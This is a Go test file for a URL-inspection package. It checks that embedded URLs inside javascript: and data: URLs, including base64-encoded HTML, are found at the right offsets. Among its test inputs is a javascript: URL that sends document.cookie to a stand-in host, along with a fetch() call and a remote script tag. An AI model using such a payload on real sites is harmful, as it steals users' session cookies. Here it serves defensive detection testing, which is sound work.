package verdict_test

import (
	"encoding/base64"
	"slices"
	"testing"

	"github.com/weburl/weburl/verdict"
)

// TestCode holds which URLs a script and a document in a data URL have, and where they are.
func TestCode(t *testing.T) {
	type found struct{ url, at string }
	document := `<script src="//a.example/x.js"></script><a href=https://b.example/>`
	encoded := base64.StdEncoding.EncodeToString([]byte(document))
	for input, want := range map[string][]found{
		`javascript:location="https://a.example/?c="+document.cookie//x`: {{"https://a.example/?c=", "https://a.example/?c="}},
		"javascript:fetch(%27https://a.example/%27)":                     {{"https://a.example/", "https://a.example/"}},
		"data:text/html," + document:                                     {{"https://a.example/x.js", "//a.example/x.js"}, {"https://b.example/", "https://b.example/"}},
		"data:text/html;base64," + encoded:                               {{"https://a.example/x.js", encoded[16:40]}, {"https://b.example/", encoded[64:88]}},
		"data:text/html;base64,%50" + encoded[1:]:                        {{"https://a.example/x.js", encoded[16:40]}, {"https://b.example/", encoded[64:88]}},
		"javascript:alert(1) // https comment":                           nil,
		"data:image/png," + document:                                     nil,
		"data:text/html":                                                 nil,
	} {
		var got []found
		for _, f := range verdict.Inspect(input).Findings {
			if f.Inside != nil {
				got = append(got, found{f.Inside.Input, input[f.Start:f.End]})
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", input, got, want)
		}
	}
}
